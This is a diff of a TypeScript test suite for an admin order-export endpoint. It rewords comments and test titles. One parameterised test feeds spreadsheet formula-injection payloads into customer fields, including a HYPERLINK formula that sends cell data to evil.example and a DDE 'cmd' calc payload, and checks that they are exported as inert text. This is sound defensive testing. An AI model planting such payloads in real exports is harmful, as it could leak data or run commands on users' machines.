@@ -28,7 +28,7 @@ async function rows(query = ''): Promise<string[]> {
   return lines.slice(1, -1);
 }
 
-/** 20 MB of them. */
+/** Adds 20 MB of orders. */
 async function addMany(): Promise<void> {
   await shop.sql('delete from checkout.orders');
   const customerId = await addCustomer(shop);
@@ -44,13 +44,13 @@ async function addMany(): Promise<void> {
   );
 }
 
-/** Words of a gift as they are stored. */
+/** A gift's words as they are stored. */
 function said(words: Record<string, string>): string {
   return JSON.stringify(Object.entries(words).map(([label, text]) => ({ label, text })));
 }
 
 interface Watched {
-  /** Orders that were handed out so far. */
+  /** Orders that have been handed out so far. */
   taken: number;
   ended: boolean;
 }
@@ -72,7 +72,7 @@ function watchExports(): Watched {
   return watched;
 }
 
-/** Begins the download and takes nothing of it yet. */
+/** Starts the download without reading any of it yet. */
 async function begin(headers: Record<string, string> = {}): Promise<IncomingMessage> {
   const address = new URL('/api/admin/orders/export', shop.web.url);
   const [answer] = (await once(get(address, { headers: { authorization: `Bearer ${token}`, ...headers } }), 'response')) as [IncomingMessage];
@@ -80,7 +80,7 @@ async function begin(headers: Record<string, string> = {}): Promise<IncomingMess
   return answer;
 }
 
-/** Resolves when nothing more is read for a while. */
+/** Resolves once nothing more has been read for a while. */
 async function standsStill(watched: Watched): Promise<void> {
   let last = -1;
   await until(async () => {
@@ -113,7 +113,7 @@ describe('the export of orders', () => {
   });
 
   it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '=HYPERLINK("http://evil.example?"&A1,"click")', "=cmd|' /C calc'!A0"])(
-    'hands %j over as text and not as a formula',
+    'exports %j as text, not as a formula',
     async (evil) => {
       const customerId = await addCustomer(shop, { firstName: evil, lastName: evil });
       await addOrder(shop, { customerId, email: `${evil}@example.com`, carrier: evil, trackingNumber: evil });
@@ -200,7 +200,7 @@ describe('the export of more orders than sockets and buffers hold', () => {
     const answer = await begin();
     await standsStill(watched);
     expect(watched.taken).toBeLessThan(MANY);
-    // It was not read yet, so what happens to it now is in the table.
+    // It has not been read yet, so a change made now shows up in the table.
     await shop.sql(`update checkout.orders set status = 'cancelled' where number = 'THE-OLDEST'`);
     const chunks: Buffer[] = [];
     for await (const chunk of answer) chunks.push(chunk as Buffer);
